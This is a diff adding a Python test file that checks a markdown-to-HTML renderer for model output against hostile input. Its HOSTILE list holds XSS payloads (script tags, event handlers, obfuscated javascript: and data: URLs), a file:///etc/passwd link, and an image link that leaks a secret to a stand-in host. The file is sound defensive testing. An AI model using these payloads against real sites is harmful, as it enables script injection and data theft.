@@ -1,0 +1,150 @@
+"""Markdown of a model, which may be hostile, as HTML that loads and runs nothing."""
+
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from adapters.web.render import draw, to_html
+from gateway.ports import Shown
+from gateway.views import Activity, ChoiceCard, FormCard, Notice, Reply, Said, ToolLine, View
+
+TAGS = set(
+    [
+        "a",
+        "p",
+        "br",
+        "strong",
+        "em",
+        "s",
+        "del",
+        "code",
+        "pre",
+        "blockquote",
+        "ul",
+        "ol",
+        "li",
+        "hr",
+        "h1",
+        "h2",
+        "h3",
+        "h4",
+        "h5",
+        "h6",
+        "table",
+        "thead",
+        "tbody",
+        "tr",
+        "th",
+        "td",
+    ]
+)
+ATTRIBUTES = {"href", "target", "rel", "class", "title", "start"}
+
+
+class Judge(HTMLParser):
+    """Fails on anything that could load or run."""
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        assert tag in TAGS, tag
+        for name, value in attrs:
+            assert name in ATTRIBUTES, name
+            if name == "href":
+                assert (value or "").lower().startswith(("http://", "https://", "mailto:"))
+                assert ("rel", "noopener noreferrer nofollow") in attrs
+                assert ("target", "_blank") in attrs
+
+
+def judge(html: str) -> str:
+    Judge().feed(html)
+    return html
+
+
+HOSTILE = [
+    "<script>window.__x = 1</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "[a](javascript:alert(1))",
+    "[a](JaVaScRiPt:alert(1))",
+    "[a](java\nscript:alert(1))",
+    "[a](&#106;avascript:alert(1))",
+    "[a](javascript&colon;alert(1))",
+    "[a](\x01javascript:alert(1))",
+    "[a](data:text/html,<script>alert(1)</script>)",
+    "[a](data:text/html;base64,PHNjcmlwdD4=)",
+    "[a](vbscript:x)",
+    "[a](file:///etc/passwd)",
+    "[a](//evil.example/x)",
+    "[a](/api/conversations)",
+    "<javascript:alert(1)>",
+    "![x](https://evil.example/p.png?secret=1)",
+    "![x](data:image/png;base64,AAAA)",
+    "![x](data:text/html,<script>)",
+    '![x" onerror="alert(1)](https://e.example/"onerror="alert(1))',
+    '[a](https://e.example "t\\" onmouseover=\\"alert(1)")',
+    '```js" onload="x\n</code></pre><script>x</script>\n```',
+    "`</code><script>x</script>`",
+    "| a |\n|--:|\n| <script>x</script> |",
+    "[![x](https://evil.example/p.png)](javascript:alert(1))",
+    "[x]: javascript:alert(1)\n\n[x]",
+    "![x]\n\n[x]: https://evil.example/p.png",
+    "<a href='https://x' style='position:fixed'>x</a>",
+    "<iframe srcdoc='<script>x</script>'></iframe>",
+    "<!-- --!><script>x</script>",
+]
+
+
+@pytest.mark.parametrize("markdown", HOSTILE)
+def test_hostile_markdown_is_harmless(markdown: str) -> None:
+    html = judge(to_html(markdown))
+    assert "<script" not in html
+    assert "<img" not in html
+
+
+PIECES = st.sampled_from([*HOSTILE, "\n\n", "\n", "> ", "- ", "**", "`", "[", "](", ")", "<", '"'])
+
+
+@given(st.lists(st.one_of(PIECES, st.text(max_size=10)), max_size=12).map("".join))
+def test_no_mixture_is_harmful(markdown: str) -> None:
+    judge(to_html(markdown))
+
+
+def test_what_people_want_stays() -> None:
+    html = to_html("# Plan\n\n- **one**\n- `two`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n~~x~~\ny")
+    for part in ("<h1>", "<li>", "<strong>", "<code>two", "<td>2", "<s>x</s><br"):
+        assert part in html
+    link = to_html("[docs](https://example.org/?a=1&b=2) <mailto:x@example.org>")
+    assert 'href="https://example.org/?a=1&amp;b=2"' in link
+    assert 'href="mailto:x@example.org"' in link
+    assert '<td class="right">2</td>' in to_html("| a |\n|--:|\n| 2 |")
+    assert "javascript:alert(1)" in to_html("[a](javascript:alert(1))"), "nothing is swallowed"
+
+
+def test_an_image_is_a_link_to_it() -> None:
+    html = judge(to_html("![a *cat*](https://example.org/c.png)"))
+    assert '<a class="image" href="https://example.org/c.png"' in html
+    assert ">a cat</a>" in html
+    assert ">https://example.org/c.png</a>" in to_html("![](https://example.org/c.png)")
+
+
+def test_each_view_has_its_markdown_and_said_has_none() -> None:
+    line = ToolLine(call_id="1", tool="t", summary="s", state="done", output="<b>")
+    views: dict[View, bool] = {
+        Reply(text="**x**"): True,
+        Notice(text="**x**"): True,
+        ChoiceCard(question="q", text="**x**"): True,
+        FormCard(question="q", text="**x**", token="q:1:x"): True,
+        Activity(lines=(line,), words="**x**"): True,
+        Said(name="ann", text="**x**"): False,
+    }
+    for view, formatted in views.items():
+        drawn = draw(Shown(rev=1, turn="t", name="n", position=1, at=0.0, view=view))
+        assert drawn.html == ("<p><strong>x</strong></p>\n" if formatted else "")
+
+
+@pytest.mark.parametrize(
+    "markdown", ["> " * 5_000 + "x", "[" * 20_000, "*a " * 20_000, "![" * 10_000, "`" * 20_001]
+)
+def test_hostile_nesting_ends_soon(markdown: str) -> None:
+    judge(to_html(markdown))
